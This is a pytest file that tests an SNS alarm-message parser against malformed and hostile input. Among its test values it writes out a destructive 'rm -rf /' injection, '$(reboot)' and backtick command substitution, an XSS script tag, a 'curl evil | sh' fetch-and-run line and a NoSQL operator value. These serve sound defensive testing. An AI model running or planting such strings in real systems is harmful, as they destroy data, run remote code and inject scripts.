"""Hostile and malformed input: InvalidAlarm (naming the field) or capped, never a crash."""

from __future__ import annotations

import json

import pytest

from chalicelib.alarms import InvalidAlarm, parse_sns_event, parse_sns_record

from .samples import PROBE_NAMESPACE, record_with

HUGE = "A" * 100_000


def parse(body):
    return parse_sns_record(record_with(body), PROBE_NAMESPACE)


def rejects(body, field: str) -> str:
    with pytest.raises(InvalidAlarm) as info:
        parse(body)
    assert field in info.value.reason
    return info.value.reason


def test_metric_alarm_parses(metric_body):
    alarm = parse(metric_body)
    assert (alarm.kind, alarm.state) == ("metric", "ALARM")


@pytest.mark.parametrize(
    "record,field",
    [
        (None, "record"),
        ([], "record"),
        ("aws:sns", "record"),
        ({}, "Sns"),
        ({"Sns": "x"}, "Sns"),
        ({"EventSource": "aws:sqs", "Sns": {}}, "EventSource"),
        ({"Sns": {"Type": "SubscriptionConfirmation", "MessageId": "a", "Message": "{}"}}, "Type"),
        ({"Sns": {"Message": "{}"}}, "MessageId"),
        ({"Sns": {"MessageId": 7, "Message": "{}"}}, "MessageId"),
        ({"Sns": {"MessageId": "a; rm -rf /", "Message": "{}"}}, "MessageId"),
        ({"Sns": {"MessageId": HUGE, "Message": "{}"}}, "MessageId"),
        ({"Sns": {"MessageId": "a"}}, "Message"),
        ({"Sns": {"MessageId": "a", "Message": {"AlarmName": "x"}}}, "Message"),
    ],
)
def test_bad_envelopes(record, field):
    with pytest.raises(InvalidAlarm) as info:
        parse_sns_record(record, PROBE_NAMESPACE)
    assert field in info.value.reason


@pytest.mark.parametrize(
    "message",
    ["", "not json", "{", "[1, 2]", '"a string"', "null", "42", "[" * 100_000 + "]" * 100_000],
)
def test_message_that_is_not_a_json_object(message):
    rejects(message, "Sns.Message")


def test_message_larger_than_sns_allows():
    rejects(json.dumps({"AlarmName": "x", "pad": "p" * 300_000}), "Sns.Message")


def test_json_but_not_an_alarm():
    rejects({"hello": "world"}, "AlarmName")


@pytest.mark.parametrize(
    "field,value",
    [
        ("AlarmName", None),
        ("AlarmName", ""),
        ("AlarmName", 42),
        ("AlarmName", ["web"]),
        ("AlarmName", HUGE),
        ("AlarmName", "web\nINJECTED"),
        ("NewStateValue", "alarm"),
        ("NewStateValue", None),
        ("NewStateValue", ["ALARM"]),
        ("NewStateValue", {"$gt": ""}),
        ("OldStateValue", "BROKEN"),
        ("NewStateReason", None),
        ("NewStateReason", 3.5),
        ("StateChangeTime", None),
        ("StateChangeTime", 1714597384),
        ("StateChangeTime", HUGE),
        ("Region", 1),
        ("AWSAccountId", 123456789012),
        ("AlarmDescription", {"nested": ["garbage"]}),
    ],
)
def test_wrong_top_level_fields(metric_body, field, value):
    metric_body[field] = value
    rejects(metric_body, field)


def test_missing_fields(metric_body):
    for field in ("AlarmName", "NewStateValue", "NewStateReason", "StateChangeTime"):
        body = dict(metric_body)
        del body[field]
        rejects(body, field)


@pytest.mark.parametrize(
    "field,value",
    [
        ("MetricName", None),
        ("MetricName", 5),
        ("Namespace", None),
        ("Namespace", HUGE),
        ("Unit", 1),
        ("Dimensions", "InstanceId=i-1"),
        ("Dimensions", {"name": "Monitor", "value": "web"}),
        ("Dimensions", [["Monitor", "web"]]),
        ("Dimensions", [{"name": "Monitor"}]),
        ("Dimensions", [{"name": 1, "value": "web"}]),
        ("Dimensions", [{"name": "Monitor", "value": HUGE}]),
        ("Dimensions", [{"name": "d", "value": "v"}] * 31),
        ("Period", "60"),
        ("Period", True),
        ("EvaluationPeriods", 1.5),
        ("Threshold", "90"),
        ("Statistic", ["AVERAGE"]),
    ],
)
def test_wrong_trigger_fields(metric_body, field, value):
    metric_body["Trigger"][field] = value
    reason = rejects(metric_body, "Trigger")
    assert field in reason


@pytest.mark.parametrize("trigger", ["x", 5, ["MetricName"], True])
def test_trigger_must_be_an_object(metric_body, trigger):
    metric_body["Trigger"] = trigger
    rejects(metric_body, "Trigger")


def test_neither_trigger_nor_rule(metric_body):
    del metric_body["Trigger"]
    rejects(metric_body, "Trigger")


def test_rule_beside_trigger_is_refused(metric_body):
    metric_body["AlarmRule"] = 'ALARM("x")'
    rejects(metric_body, "AlarmRule")


def test_unit_may_be_null_or_a_string(metric_body):
    metric_body["Trigger"]["Unit"] = None
    assert parse(metric_body).metric == "mem_used_percent"
    metric_body["Trigger"]["Unit"] = "Percent"
    assert parse(metric_body).metric == "mem_used_percent"


def test_dimensions_accept_both_spellings(metric_body):
    metric_body.update(AlarmName="autoheal-probe-web")
    metric_body["Trigger"].update(Namespace=PROBE_NAMESPACE, MetricName="Availability")
    metric_body["Trigger"]["Dimensions"] = [{"Value": "web", "Name": "Monitor"}]
    alarm = parse(metric_body)
    assert (alarm.kind, alarm.monitor) == ("probe", "web")


@pytest.mark.parametrize(
    ("name", "metric"),
    [
        ("web-latency-high", "Availability"),
        ("autoheal-probe-web", "ResponseTime"),
        ("autoheal-probe-api", "Availability"),
    ],
)
def test_only_the_probes_own_alarm_is_the_probe(metric_body, name, metric):
    """A latency alarm on the probe's metrics, or a name that does not match its monitor, is an
    ordinary alarm: its OK must never close the monitor's incident."""
    metric_body.update(AlarmName=name)
    metric_body["Trigger"].update(Namespace=PROBE_NAMESPACE, MetricName=metric)
    metric_body["Trigger"]["Dimensions"] = [{"value": "web", "name": "Monitor"}]
    assert parse(metric_body).kind == "metric"


def test_scope_dimensions_are_kept_and_others_are_not(metric_body):
    metric_body["Trigger"]["Dimensions"] = [
        {"value": "i-0abc", "name": "InstanceId"},
        {"value": "web-asg", "name": "AutoScalingGroupName"},
        {"value": "m5.large", "name": "InstanceType"},
    ]
    assert parse(metric_body).dimensions == {"InstanceId": "i-0abc", "AutoScalingGroupName": "web-asg"}


def test_dimensions_may_be_absent_or_empty(metric_body):
    metric_body["Trigger"]["Dimensions"] = []
    assert parse(metric_body).monitor is None
    del metric_body["Trigger"]["Dimensions"]
    assert parse(metric_body).monitor is None


def test_probe_namespace_without_monitor_is_a_plain_metric(metric_body):
    metric_body["Trigger"]["Namespace"] = PROBE_NAMESPACE
    assert parse(metric_body).kind == "metric"


def test_monitor_dimension_on_a_foreign_metric(metric_body):
    metric_body["Trigger"]["Dimensions"].append({"value": "web", "name": "Monitor"})
    alarm = parse(metric_body)
    assert (alarm.kind, alarm.monitor) == ("metric", "web")


@pytest.mark.parametrize(
    "field,attribute,limit",
    [("NewStateReason", "reason", 1000), ("AlarmDescription", "description", 1024),
     ("Region", "region", 256), ("AWSAccountId", "account", 256)],
)  # fmt: skip
def test_long_texts_are_capped(metric_body, field, attribute, limit):
    metric_body[field] = HUGE
    value = getattr(parse(metric_body), attribute)
    assert len(value) == limit and value.endswith("…")


def test_empty_reason_is_kept(metric_body):
    metric_body["NewStateReason"] = ""
    assert parse(metric_body).reason == ""


def test_shell_metacharacters_and_unicode_pass_through_as_plain_text(metric_body):
    name = "web-$(reboot)`id`;|&><'\"-memory-高い-🔥"
    metric_body["AlarmName"] = name
    metric_body["NewStateReason"] = "<script>alert(1)</script> && curl evil | sh"
    alarm = parse(metric_body)
    assert alarm.name == name  # kept verbatim: it is data, and nothing here runs it
    assert alarm.reason.startswith("<script>")


def test_optional_fields_may_be_null(metric_body):
    for field in ("AlarmDescription", "OldStateValue", "Region", "AWSAccountId"):
        metric_body[field] = None
    alarm = parse(metric_body)
    assert (alarm.description, alarm.old_state, alarm.region, alarm.account) == (None,) * 4


def test_empty_account_becomes_none(metric_body):
    metric_body["AWSAccountId"] = ""
    assert parse(metric_body).account is None


class TestMetricMath:
    def test_monitor_and_namespace_when_all_metrics_agree(self, body_of):
        body = body_of("alarm-metric-math.json")
        for entry in body["Trigger"]["Metrics"][1:]:
            entry["MetricStat"]["Metric"]["Dimensions"].append({"value": "web", "name": "Monitor"})
        alarm = parse(body)
        assert (alarm.kind, alarm.namespace, alarm.metric, alarm.monitor) == (
            "metric_math", "AWS/ApplicationELB", None, "web",
        )  # fmt: skip

    @pytest.mark.parametrize(
        "metrics",
        ["m1", {"Id": "m1"}, [1], [{"Expression": "m1"}], [{"Id": "e1", "MetricStat": "x"}],
         [{"Id": "m", "MetricStat": {"Metric": {"MetricName": "x"}}}],
         [{"Id": "m", "MetricStat": {"Metric": {"MetricName": "x", "Namespace": "n",
                                                 "Dimensions": [{"name": "a"}]}}}],
         [{"Id": "e"}] * 51],
    )  # fmt: skip
    def test_bad_metrics(self, body_of, metrics):
        body = body_of("alarm-metric-math.json")
        body["Trigger"]["Metrics"] = metrics
        rejects(body, "Trigger.Metrics")


class TestComposite:
    def test_rule_must_be_a_string(self, body_of):
        body = body_of("alarm-composite.json")
        body["AlarmRule"] = ["ALARM(x)"]
        rejects(body, "AlarmRule")

    def test_rule_has_a_cap(self, body_of):
        body = body_of("alarm-composite.json")
        body["AlarmRule"] = "ALARM(x) OR " * 2000
        rejects(body, "AlarmRule")

    def test_triggering_children_must_be_a_list(self, body_of):
        body = body_of("alarm-composite.json")
        body["TriggeringChildren"] = "web"
        rejects(body, "TriggeringChildren")

    def test_null_trigger_is_absent(self, body_of):
        body = body_of("alarm-composite.json")
        body["Trigger"] = None
        assert parse(body).kind == "composite"


class TestEvent:
    @pytest.mark.parametrize("event", [None, [], "x", 1, {}, {"Records": None}, {"Records": {}}])
    def test_not_an_event(self, event):
        assert parse_sns_event(event, PROBE_NAMESPACE)[0] == []

    def test_good_and_bad_records_together(self, metric_body):
        event = {"Records": [record_with(metric_body), {"Sns": 1}, record_with("nope")]}
        parsed, dropped = parse_sns_event(event, PROBE_NAMESPACE)
        assert [a.name for a in parsed] == ["web-blue-memory-high"]
        assert dropped == ["Records[1]: Sns: expected an object", "Records[2]: Sns.Message: not JSON"]

    def test_reasons_never_quote_values(self, metric_body):
        metric_body["AlarmName"] = {"secret": "hunter2"}
        _, [reason] = parse_sns_event({"Records": [record_with(metric_body)]}, PROBE_NAMESPACE)
        assert "hunter2" not in reason and "AlarmName" in reason

    def test_too_many_records(self, metric_body):
        event = {"Records": [record_with(metric_body)] * 150}
        parsed, dropped = parse_sns_event(event, PROBE_NAMESPACE)
        assert len(parsed) == 100 and len(dropped) == 1
